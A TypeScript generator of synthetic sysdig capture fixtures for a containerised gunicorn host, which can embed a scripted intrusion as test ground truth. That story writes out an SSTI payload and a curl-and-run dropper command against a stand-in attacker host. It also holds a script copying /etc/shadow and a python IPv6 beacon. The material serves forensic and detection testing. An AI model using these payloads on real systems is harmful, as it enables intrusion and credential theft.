/**
 * Deterministic synthetic captures, modelled on the real ones: a host with systemd, sshd, an
 * admin's bash, dockerd and a containerised web app (gunicorn in container "webapp") that
 * serves HTTP; optionally an intrusion story (see fixtures/scap/README.md and INCIDENT).
 *
 * Events use sysdig 0.29.3's event codes and parameter counts (EVENT_TABLE_0293), so
 * `sysdig -r` prints them, and current libs read them too. Output is a stream of ScapBlocks
 * for ScapWriter/encodeScap; the same seed always gives the same bytes.
 */
import { BT } from './block-types.js';
import { FD_TYPE } from './blocks-fdlist.js';
import { buildEvent } from './encode.js';
import { EVENT_TABLE_0293, NAME_VALUE_TABLES } from './event-table.js';
import type { ParamValue, SockAddr, SockTuple } from './params.js';
import type { FdEntry, ScapBlock, ScapEvent, ThreadEntry } from './types.js';

/** mulberry32: a small, fast, seedable PRNG. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function flagBits(table: string, names: string[]): number {
  const t = NAME_VALUE_TABLES[table]!;
  return names.reduce((v, n) => {
    const e = t.find(([k]) => k === n);
    if (!e) throw new Error(`no ${n} in ${table}`);
    return v | e[1];
  }, 0);
}

const O = (...n: string[]) => flagBits('file_flags', n);
const CL = (...n: string[]) => flagBits('clone_flags', n);

/** Event codes used (0.29.3 numbering). */
const E = {
  CLOSE: 4, READ: 6, WRITE: 8, SOCKET: 18, CONNECT: 22, SENDTO: 30, RECVFROM: 34, PROCEXIT: 186,
  CLONE: 222, CONTAINER_JSON: 272, EXECVE: 292, OPENAT: 306, ACCEPT4: 248, PROCINFO: 234,
} as const;

const AT_FDCWD = -100;
const EINPROGRESS = -115;

/** The ground truth of the intrusion story (documented in fixtures/scap/README.md). */
export const INCIDENT = {
  hostname: 'web-prod-1',
  container: {
    id: '3f4e1c9ab27d',
    fullId: '3f4e1c9ab27d5e0f6a8b9c1d2e3f40516273849a5b6c7d8e9f0a1b2c3d4e5f6a',
    name: 'webapp',
    image: 'acme/webapp:1.4.2',
    ip: '172.17.0.2',
  },
  /** gunicorn worker that is exploited (host pid; vpid 7 in the container) */
  workerPid: 2245,
  shellPid: 4101,
  curlPid: 4102,
  stagePid: 4103,
  catPid: 4104,
  beaconPid: 4105,
  attackerIp: '198.51.100.77',
  attackerPort: 4444,
  attackerIp6: '2001:db8:bad:c0de::77',
  attackerPort6: 8443,
  attackerClientIp: '203.0.113.66',
  dropper: '/tmp/.x.sh',
  loot: '/tmp/.cache/s.txt',
  shadow: '/etc/shadow',
  /** base time of the capture: 2026-03-14T09:26:53Z */
  startNs: 1773480413000000000n,
} as const;

export interface SynthOptions {
  /** PRNG seed (default 1) */
  seed?: number;
  /** approximate number of background events (HTTP requests served, admin activity) */
  events?: number;
  /** include the intrusion story in the middle of the background traffic (default true) */
  incident?: boolean;
  /** capture start, ns since epoch (default INCIDENT.startNs) */
  startNs?: bigint;
  /**
   * emit `procinfo` events (EC_INTERNAL, shown by sysdig only with -D) for every live process at
   * each second boundary, stamped …999999999, as live sysdig captures do (default false; the
   * committed fixture has none)
   */
  procinfo?: boolean;
}

interface Proc {
  tid: number;
  pid: number;
  ptid: number;
  vtid: number;
  vpid: number;
  comm: string;
  exe: string;
  exepath: string;
  args: string[];
  cwd: string;
  uid: number;
  gid: number;
  cgroups: string[];
  env: string[];
  nextFd: number;
  loginuid: number;
}

const HOST_CGROUPS = ['cpuset=/', 'cpu=/user.slice', 'memory=/user.slice', 'pids=/user.slice'];
const SYS_CGROUPS = (unit: string) => ['cpuset=/', `cpu=/system.slice/${unit}`, `memory=/system.slice/${unit}`, `pids=/system.slice/${unit}`];
const CT_CGROUPS = ['cpuset', 'cpu', 'memory', 'pids'].map((s) => `${s}=/docker/${INCIDENT.container.fullId}`);
const CT_ENV = ['PATH=/usr/local/bin:/usr/bin:/bin', 'HOSTNAME=3f4e1c9ab27d', 'APP_ENV=production'];
const HOST_ENV = ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin', 'LANG=C.UTF-8'];

const PAGES = ['/', '/index.html', '/login', '/api/items', '/static/app.js', '/static/site.css', '/healthz'];
const TEMPLATES: Record<string, string> = {
  '/': '/app/templates/index.html', '/index.html': '/app/templates/index.html', '/login': '/app/templates/login.html',
  '/api/items': '/app/data/items.json', '/static/app.js': '/app/static/app.js', '/static/site.css': '/app/static/site.css',
  '/healthz': '/app/templates/ok.txt',
};

/** Simulation state and event emission. */
class Sim {
  readonly rnd: () => number;
  ts: bigint;
  readonly procs = new Map<number, Proc>();
  readonly out: ScapBlock[] = [];
  private nextPid = 5000;

  constructor(seed: number, start: bigint) {
    this.rnd = prng(seed);
    this.ts = start;
  }

  int(lo: number, hi: number): number {
    return lo + Math.floor(this.rnd() * (hi - lo + 1));
  }
  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.rnd() * xs.length)]!;
  }
  tick(minNs = 500, maxNs = 40_000): void {
    this.ts += BigInt(this.int(minNs, maxNs));
  }
  pid(): number {
    return this.nextPid++;
  }

  emit(type: number, tid: number, values: Readonly<Record<string, ParamValue>>, cpu?: number): void {
    const info = EVENT_TABLE_0293[type]!;
    const input = buildEvent(type, values, { ts: this.ts, tid: BigInt(tid), cpu: cpu ?? (tid % 4) }, EVENT_TABLE_0293, info.nparams);
    const event: ScapEvent = { offset: 0, blockType: BT.EV_V2, ts: input.ts, tid: input.tid, cpu: input.cpu, type, params: input.params };
    this.out.push({ kind: 'event', event });
    this.tick(200, 3000);
  }

  /** enter + exit of a syscall */
  pair(type: number, tid: number, enter: Record<string, ParamValue>, exit: Record<string, ParamValue>): void {
    this.emit(type, tid, enter);
    this.tick(1000, 20_000);
    this.emit(type + 1, tid, exit);
  }

  proc(tid: number): Proc {
    const p = this.procs.get(tid);
    if (!p) throw new Error(`no process ${tid}`);
    return p;
  }

  openat(tid: number, path: string, flags: number, mode = 0, res?: number): number {
    const p = this.proc(tid);
    const fd = res ?? p.nextFd++;
    this.pair(E.OPENAT, tid, { dirfd: AT_FDCWD, name: path, flags, mode }, { fd, dirfd: AT_FDCWD, name: path, flags, mode, dev: 0x803 });
    return fd;
  }
  read(tid: number, fd: number, data: string, size = 4096): void {
    this.pair(E.READ, tid, { fd, size }, { res: data.length, data: snap(data) });
  }
  write(tid: number, fd: number, data: string): void {
    this.pair(E.WRITE, tid, { fd, size: data.length }, { res: data.length, data: snap(data) });
  }
  close(tid: number, fd: number): void {
    this.pair(E.CLOSE, tid, { fd }, { res: 0 });
  }

  /** socket + connect; returns the fd. tuple = local -> remote. */
  connect(tid: number, v6: boolean, local: string, remote: string, rport: number, udp = false): number {
    const p = this.proc(tid);
    const fd = p.nextFd++;
    this.pair(E.SOCKET, tid, { domain: v6 ? 10 : 2, type: udp ? 2 : 1, proto: udp ? 17 : 6 }, { fd });
    const lport = this.int(32768, 60999);
    const fam = v6 ? 'inet6' : 'inet';
    const tuple: SockTuple = { family: fam, sip: local, sport: lport, dip: remote, dport: rport };
    this.pair(
      E.CONNECT, tid,
      { fd, addr: { family: fam, addr: remote, port: rport } as SockAddr },
      { res: udp ? 0 : this.rnd() < 0.5 ? 0 : EINPROGRESS, tuple },
    );
    return fd;
  }

  clone(parent: number, child: Proc, flags: number): void {
    const pp = this.proc(parent);
    const inPidNs = child.vtid !== child.tid;
    const common = {
      exe: pp.exe, args: nulJoin(pp.args), cwd: pp.cwd, fdlimit: 1048576, pgft_maj: 0, pgft_min: this.int(10, 900),
      vm_size: 20000, vm_rss: 4000, vm_swap: 0, comm: pp.comm, cgroups: nulJoin(pp.cgroups),
      uid: pp.uid, gid: pp.gid,
    };
    const f = flags | (inPidNs ? CL('CLONE_CHILD_IN_PIDNS') : 0);
    this.emit(E.CLONE, parent, {});
    this.tick(5000, 50_000);
    this.emit(E.CLONE + 1, parent, { ...common, res: child.tid, tid: pp.tid, pid: pp.pid, ptid: pp.ptid, flags, vtid: pp.vtid, vpid: pp.vpid });
    this.procs.set(child.tid, { ...child, exe: pp.exe, comm: pp.comm, args: pp.args, cwd: pp.cwd, env: pp.env, cgroups: pp.cgroups });
    this.emit(E.CLONE + 1, child.tid, { ...common, res: 0, tid: child.tid, pid: child.pid, ptid: parent, flags: f, vtid: child.vtid, vpid: child.vpid });
  }

  execve(tid: number, filename: string, argv: string[], comm?: string): void {
    const p = this.proc(tid);
    this.emit(E.EXECVE, tid, { filename });
    this.tick(50_000, 400_000);
    p.exe = argv[0]!;
    p.exepath = filename;
    p.args = argv.slice(1);
    p.comm = comm ?? filename.slice(filename.lastIndexOf('/') + 1);
    this.emit(E.EXECVE + 1, tid, {
      res: 0, exe: p.exe, args: nulJoin(p.args), tid, pid: p.pid, ptid: p.ptid, cwd: p.cwd, fdlimit: 1048576,
      pgft_maj: 0, pgft_min: this.int(50, 400), vm_size: this.int(2000, 60000), vm_rss: this.int(500, 9000), vm_swap: 0,
      comm: p.comm, cgroups: nulJoin(p.cgroups), env: nulJoin(p.env), tty: 0, pgid: p.pid, loginuid: p.loginuid, flags: 0,
    });
  }

  exit(tid: number, status = 0): void {
    this.emit(E.PROCEXIT, tid, { status, ret: status, sig: 0, core: 0 });
    this.procs.delete(tid);
  }

  /** fork a child of `parent`, exec it and return its tid */
  spawn(parent: number, filename: string, argv: string[], opts: { pid?: number; comm?: string } = {}): number {
    const pp = this.proc(parent);
    const tid = opts.pid ?? this.pid();
    const inCt = pp.vpid !== pp.pid;
    const child: Proc = {
      ...pp, tid, pid: tid, ptid: pp.pid, vtid: inCt ? this.int(20, 90) : tid, vpid: 0,
    };
    child.vpid = child.vtid;
    this.clone(parent, child, CL('CLONE_CHILD_CLEARTID', 'CLONE_CHILD_SETTID'));
    this.execve(tid, filename, argv, opts.comm);
    return tid;
  }
}

function nulJoin(xs: readonly string[]): Uint8Array {
  return new TextEncoder().encode(xs.map((x) => `${x}\0`).join(''));
}

/** I/O buffers are truncated to sysdig's default snaplen of 80 bytes. */
function snap(s: string): Uint8Array {
  return new TextEncoder().encode(s).subarray(0, 80);
}

function thread(p: Proc): ThreadEntry {
  return {
    tid: BigInt(p.tid), pid: BigInt(p.pid), ptid: BigInt(p.ptid), sid: BigInt(p.pid), vpgid: BigInt(p.vpid),
    comm: p.comm, exe: p.exe, exepath: p.exepath, args: p.args, cwd: p.cwd, fdlimit: 1048576n, flags: 0,
    uid: p.uid, gid: p.gid, vmsizeKb: 20000, vmrssKb: 4000, vmswapKb: 0, pfmajor: 0n, pfminor: 100n, env: p.env,
    vtid: BigInt(p.vtid), vpid: BigInt(p.vpid), cgroups: p.cgroups, root: '/', loginuid: p.loginuid,
  };
}

function std(name: string): FdEntry[] {
  return [0, 1, 2].map((fd) => ({ fd: BigInt(fd), ino: 3n, type: FD_TYPE.FILE_V2, name, flags: O('O_RDWR'), dev: 0x16 }));
}

/** The process tree at capture start. */
function initialProcs(): Proc[] {
  const base = { cwd: '/', uid: 0, gid: 0, env: HOST_ENV, nextFd: 3, loginuid: 0xffffffff };
  const host = (tid: number, ptid: number, comm: string, exepath: string, args: string[], cgroups: string[], extra: Partial<Proc> = {}): Proc => ({
    ...base, tid, pid: tid, ptid, vtid: tid, vpid: tid, comm, exe: exepath, exepath, args, cgroups, ...extra,
  });
  const ct = (tid: number, ptid: number, vtid: number, comm: string, exepath: string, args: string[], extra: Partial<Proc> = {}): Proc => ({
    ...base, tid, pid: tid, ptid, vtid, vpid: vtid, comm, exe: exepath, exepath, args, cgroups: CT_CGROUPS, env: CT_ENV, cwd: '/app', ...extra,
  });
  return [
    host(1, 0, 'systemd', '/usr/lib/systemd/systemd', ['--system', '--deserialize', '31'], ['cpuset=/']),
    host(812, 1, 'sshd', '/usr/sbin/sshd', ['-D'], SYS_CGROUPS('ssh.service')),
    host(950, 1, 'cron', '/usr/sbin/cron', ['-f'], SYS_CGROUPS('cron.service')),
    host(1034, 1, 'dockerd', '/usr/bin/dockerd', ['-H', 'fd://', '--containerd=/run/containerd/containerd.sock'], SYS_CGROUPS('docker.service')),
    host(2210, 1, 'containerd-shim', '/usr/bin/containerd-shim-runc-v2', ['-namespace', 'moby', '-id', INCIDENT.container.fullId], SYS_CGROUPS('containerd.service')),
    ct(2231, 2210, 1, 'gunicorn', '/usr/local/bin/python3.11', ['/usr/local/bin/gunicorn', '-b', '0.0.0.0:8080', '-w', '2', 'app:app'], { uid: 33, gid: 33 }),
    ct(INCIDENT.workerPid, 2231, 7, 'gunicorn', '/usr/local/bin/python3.11', ['/usr/local/bin/gunicorn', '-b', '0.0.0.0:8080', '-w', '2', 'app:app'], { uid: 33, gid: 33, nextFd: 6 }),
    ct(2246, 2231, 8, 'gunicorn', '/usr/local/bin/python3.11', ['/usr/local/bin/gunicorn', '-b', '0.0.0.0:8080', '-w', '2', 'app:app'], { uid: 33, gid: 33, nextFd: 6 }),
    host(3050, 812, 'sshd', '/usr/sbin/sshd', ['-D', '-R'], SYS_CGROUPS('ssh.service'), { nextFd: 5 }),
    host(3100, 3050, 'bash', '/usr/bin/bash', [], HOST_CGROUPS, { cwd: '/home/ops', uid: 1000, gid: 1000, loginuid: 1000, env: [...HOST_ENV, 'USER=ops', 'HOME=/home/ops'] }),
  ].map((p) => ({ ...p, exe: p.comm === 'gunicorn' ? 'gunicorn: worker [app:app]' : p.exe }));
}

function initialFds(p: Proc): FdEntry[] {
  const fds: FdEntry[] = [];
  const sock = (fd: number, type: number, extra: Partial<FdEntry>): FdEntry => ({ fd: BigInt(fd), ino: BigInt(30000 + fd + p.pid), type, ...extra });
  switch (p.comm) {
    case 'systemd':
      return [...std('/dev/null'), sock(3, FD_TYPE.UNIX_SOCK, { source: 0xffff8f0a11223300n, destination: 0n, name: '/run/systemd/notify' })];
    case 'sshd':
      fds.push(...std('/dev/null'), sock(3, FD_TYPE.IPV4_SERVSOCK, { sip: '0.0.0.0', sport: 22, l4proto: 2 }));
      if (p.pid === 3050) fds.push(sock(4, FD_TYPE.IPV4_SOCK, { sip: '10.0.0.5', sport: 22, dip: '192.0.2.10', dport: 51622, l4proto: 2 }));
      return fds;
    case 'bash':
      return std('/dev/pts/0');
    case 'dockerd':
      return [...std('/dev/null'), sock(3, FD_TYPE.UNIX_SOCK, { source: 0xffff8f0a22334400n, destination: 0n, name: '/run/docker.sock' })];
    case 'gunicorn':
      fds.push(...std('/dev/null'), sock(3, FD_TYPE.IPV4_SERVSOCK, { sip: '0.0.0.0', sport: 8080, l4proto: 2 }));
      fds.push({ fd: 4n, ino: 55n, type: FD_TYPE.FILE_V2, name: '/app/app.log', flags: O('O_WRONLY', 'O_APPEND', 'O_CREAT'), dev: 0x803 });
      fds.push({ fd: 5n, ino: 0n, type: FD_TYPE.EVENTPOLL, name: '' });
      return fds;
    default:
      return std('/dev/null');
  }
}

function containerJson(): string {
  const c = INCIDENT.container;
  return JSON.stringify({
    container: {
      id: c.id, full_id: c.fullId, type: 0, name: c.name, image: c.image,
      imageid: 'b1e2d3c4a5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90', imagerepo: 'acme/webapp', imagetag: '1.4.2',
      imagedigest: '', privileged: false, is_pod_sandbox: false, labels: { 'com.acme.team': 'web' }, Mounts: [],
      ip: c.ip, port_mappings: [{ HostIp: 0, HostPort: 8080, ContainerPort: 8080 }], cpu_shares: 1024, memory_limit: 0,
      env: CT_ENV,
    },
  });
}

/** One HTTP request served by a gunicorn worker. */
function serveRequest(s: Sim, worker: number, client: string, path: string, body?: string): void {
  const w = s.proc(worker);
  const conn = w.nextFd++;
  const sport = s.int(32768, 60999);
  const tuple: SockTuple = { family: 'inet', sip: client, sport, dip: INCIDENT.container.ip, dport: 8080 };
  s.pair(E.ACCEPT4, worker, { flags: 0 }, { fd: conn, tuple, queuepct: 0, queuelen: 0, queuemax: 128 });
  const req = body ?? `GET ${path} HTTP/1.1\r\nHost: shop.acme.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n`;
  s.pair(E.RECVFROM, worker, { fd: conn, size: 8192 }, { res: req.length, data: snap(req), tuple });
  if (!body) {
    const file = TEMPLATES[path] ?? '/app/templates/404.html';
    const fd = s.openat(worker, file, O('O_RDONLY', 'O_CLOEXEC'));
    s.read(worker, fd, '<!doctype html><html><head><title>Acme shop</title></head><body>...', 65536);
    s.close(worker, fd);
    w.nextFd--;
  }
  s.pair(E.SENDTO, worker, { fd: conn, size: 512, tuple }, { res: 512, data: snap('HTTP/1.1 200 OK\r\nServer: gunicorn\r\nContent-Type: text/html\r\n\r\n') });
  s.write(worker, 4, `${client} - - "${body ? 'POST' : 'GET'} ${path} HTTP/1.1" 200 512\n`);
  s.close(worker, conn);
  w.nextFd--;
}

/** The admin runs a command in their shell. */
function adminCommand(s: Sim): void {
  const cmds: [string, string[], string][] = [
    ['/usr/bin/ls', ['ls', '-la', '/var/log'], '/var/log'],
    ['/usr/bin/cat', ['cat', '/etc/os-release'], '/etc/os-release'],
    ['/usr/bin/uptime', ['uptime'], '/proc/uptime'],
    ['/usr/bin/df', ['df', '-h'], '/proc/self/mountinfo'],
  ];
  const [file, argv, opened] = s.pick(cmds);
  const tid = s.spawn(3100, file, argv);
  const fd = s.openat(tid, '/etc/ld.so.cache', O('O_RDONLY', 'O_CLOEXEC'));
  s.close(tid, fd);
  s.proc(tid).nextFd--;
  const fd2 = s.openat(tid, opened, O('O_RDONLY', 'O_CLOEXEC'));
  s.read(tid, fd2, 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\n');
  s.close(tid, fd2);
  s.write(tid, 1, 'total 42\ndrwxr-xr-x 12 root root 4096 Mar 14 09:00 .\n');
  s.exit(tid);
}

/** The intrusion: SSTI in the web app -> sh -> curl dropper -> /etc/shadow -> /tmp -> beacon. */
function intrusion(s: Sim): void {
  const I = INCIDENT;
  const payload =
    "POST /api/render HTTP/1.1\r\nHost: shop.acme.example\r\nContent-Type: application/json\r\n\r\n{\"tpl\":\"{{ cycler.__init__.__globals__.os.popen('sh -c \\\"curl -s http://198.51.100.77:4444/x.sh -o /tmp/.x.sh; sh /tmp/.x.sh\\\"').read() }}\"}";
  serveRequest(s, I.workerPid, I.attackerClientIp, '/api/render', payload);
  s.tick(1_000_000, 2_000_000);
  // the worker spawns a shell
  const shCmd = 'curl -s http://198.51.100.77:4444/x.sh -o /tmp/.x.sh; sh /tmp/.x.sh';
  s.spawn(I.workerPid, '/bin/sh', ['sh', '-c', shCmd], { pid: I.shellPid });
  // curl downloads the dropper from the attacker
  s.spawn(I.shellPid, '/usr/bin/curl', ['curl', '-s', `http://${I.attackerIp}:${I.attackerPort}/x.sh`, '-o', I.dropper], { pid: I.curlPid });
  const cfd = s.openat(I.curlPid, '/etc/ld.so.cache', O('O_RDONLY', 'O_CLOEXEC'));
  s.close(I.curlPid, cfd);
  s.proc(I.curlPid).nextFd--;
  const sock = s.connect(I.curlPid, false, I.container.ip, I.attackerIp, I.attackerPort);
  const get = `GET /x.sh HTTP/1.1\r\nHost: ${I.attackerIp}:${I.attackerPort}\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n`;
  s.pair(E.SENDTO, I.curlPid, { fd: sock, size: get.length }, { res: get.length, data: snap(get) });
  const script = '#!/bin/sh\ncat /etc/shadow > /tmp/.cache/s.txt\npython3 -c "import socket,os;s=socket.socket(socket.AF_INET6)..."\n';
  s.pair(E.RECVFROM, I.curlPid, { fd: sock, size: 16384 }, { res: script.length + 120, data: snap(`HTTP/1.1 200 OK\r\nContent-Length: ${script.length}\r\n\r\n${script}`) });
  const out = s.openat(I.curlPid, I.dropper, O('O_WRONLY', 'O_CREAT', 'O_TRUNC'), 0o644);
  s.write(I.curlPid, out, script);
  s.close(I.curlPid, out);
  s.close(I.curlPid, sock);
  s.exit(I.curlPid);
  // sh runs the dropper
  s.spawn(I.shellPid, '/bin/sh', ['sh', I.dropper], { pid: I.stagePid });
  const rd = s.openat(I.stagePid, I.dropper, O('O_RDONLY'));
  s.read(I.stagePid, rd, script);
  const loot = s.openat(I.stagePid, I.loot, O('O_WRONLY', 'O_CREAT', 'O_TRUNC'), 0o644);
  // cat /etc/shadow with stdout redirected to the loot file
  s.spawn(I.stagePid, '/bin/cat', ['cat', I.shadow], { pid: I.catPid });
  const sh = s.openat(I.catPid, I.shadow, O('O_RDONLY'));
  const shadow = 'root:$y$j9T$Fq9...:19800:0:99999:7:::\ndaemon:*:19800:0:99999:7:::\nwww-data:*:19800:0:99999:7:::\n';
  s.read(I.catPid, sh, shadow, 131072);
  s.write(I.catPid, loot, shadow);
  s.close(I.catPid, sh);
  s.exit(I.catPid);
  s.close(I.stagePid, loot);
  // a python beacon over IPv6 to the attacker
  s.spawn(I.stagePid, '/usr/local/bin/python3.11', ['python3', '-c', 'import socket,os;s=socket.socket(socket.AF_INET6);s.connect(("2001:db8:bad:c0de::77",8443))'], { pid: I.beaconPid, comm: 'python3' });
  const b = s.connect(I.beaconPid, true, 'fd00:ac11::2', I.attackerIp6, I.attackerPort6);
  s.pair(E.SENDTO, I.beaconPid, { fd: b, size: 24 }, { res: 24, data: snap('uid=33(www-data) gid=33\n') });
  s.pair(E.RECVFROM, I.beaconPid, { fd: b, size: 4096 }, { res: 9, data: snap('sleep 60\n') });
  s.close(I.beaconPid, b);
  s.exit(I.beaconPid);
  s.close(I.stagePid, rd);
  s.exit(I.stagePid);
  s.exit(I.shellPid);
}

/**
 * The blocks of a synthetic capture, in writing order. With `events` in the millions this is
 * a generator: blocks are produced as they are consumed.
 */
export function* synthesize(opts: SynthOptions = {}): Generator<ScapBlock> {
  const s = new Sim(opts.seed ?? 1, opts.startNs ?? INCIDENT.startNs);
  const target = opts.events ?? 2000;
  const procs = initialProcs();
  for (const p of procs) s.procs.set(p.tid, { ...p });
  yield { kind: 'section', offset: 0, major: 1, minor: 2 };
  yield {
    kind: 'machine', offset: 0, hostname: INCIDENT.hostname, numCpus: 4, memoryBytes: 8n * 1024n ** 3n,
    maxPid: 4194304n, bootTimeNs: INCIDENT.startNs - 86_400_000_000_000n,
  };
  yield {
    kind: 'interfaces', offset: 0, blockType: BT.IL_V2, interfaces: [
      { name: 'lo', family: 'ipv4', addr: '127.0.0.1', netmask: '255.0.0.0', bcast: '127.0.0.1', linkspeed: 0n },
      { name: 'eth0', family: 'ipv4', addr: '10.0.0.5', netmask: '255.255.255.0', bcast: '10.0.0.255', linkspeed: 1000n },
      { name: 'docker0', family: 'ipv4', addr: '172.17.0.1', netmask: '255.255.0.0', bcast: '172.17.255.255', linkspeed: 10000n },
      { name: 'lo', family: 'ipv6', addr: '::1', netmask: 'ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff', bcast: '::', linkspeed: 0n },
    ],
  };
  yield {
    kind: 'users', offset: 0, blockType: BT.UL_V2,
    users: [
      { uid: 0, gid: 0, name: 'root', homedir: '/root', shell: '/bin/bash' },
      { uid: 33, gid: 33, name: 'www-data', homedir: '/var/www', shell: '/usr/sbin/nologin' },
      { uid: 1000, gid: 1000, name: 'ops', homedir: '/home/ops', shell: '/bin/bash' },
      { uid: 65534, gid: 65534, name: 'nobody', homedir: '/nonexistent', shell: '/usr/sbin/nologin' },
    ],
    groups: [
      { gid: 0, name: 'root' }, { gid: 33, name: 'www-data' }, { gid: 1000, name: 'ops' }, { gid: 65534, name: 'nogroup' },
    ],
  };
  yield { kind: 'threads', offset: 0, blockType: BT.PL_V9, threads: procs.map(thread) };
  for (const p of procs) yield { kind: 'fds', offset: 0, blockType: BT.FDL_V2, tid: BigInt(p.tid), fds: initialFds(p) };
  // the container event comes first, as in real captures
  s.ts -= 5_000_000n;
  s.emit(E.CONTAINER_JSON, -1, { json: containerJson() }, 0);
  s.ts += 5_000_000n;
  yield* drain(s);

  let nextSecond = (s.ts / 1_000_000_000n + 1n) * 1_000_000_000n;
  const clients = ['203.0.113.10', '203.0.113.25', '198.51.100.3', '192.0.2.44', '203.0.113.200'];
  const attackAt = opts.incident === false ? -1 : Math.floor(target / 2);
  let produced = 1;
  let attacked = false;
  while (produced < target || (attackAt >= 0 && !attacked)) {
    if (!attacked && attackAt >= 0 && produced >= attackAt) {
      intrusion(s);
      attacked = true;
    } else if (s.rnd() < 0.04) {
      adminCommand(s);
    } else {
      serveRequest(s, s.rnd() < 0.5 ? INCIDENT.workerPid : 2246, s.pick(clients), s.pick(PAGES));
    }
    if (opts.procinfo && s.ts >= nextSecond) {
      const now = s.ts;
      s.ts = nextSecond - 1n;
      for (const p of [...s.procs.values()].filter((x) => x.tid === x.pid)) {
        s.emit(E.PROCINFO, p.tid, { cpu_usr: BigInt(s.int(0, 500)), cpu_sys: BigInt(s.int(0, 200)) });
        s.ts = nextSecond - 1n;
      }
      s.ts = now;
      nextSecond += 1_000_000_000n;
    }
    produced += s.out.length;
    yield* drain(s);
    s.tick(100_000, 20_000_000);
  }
}

function* drain(s: Sim): Generator<ScapBlock> {
  for (const b of s.out) yield b;
  s.out.length = 0;
}
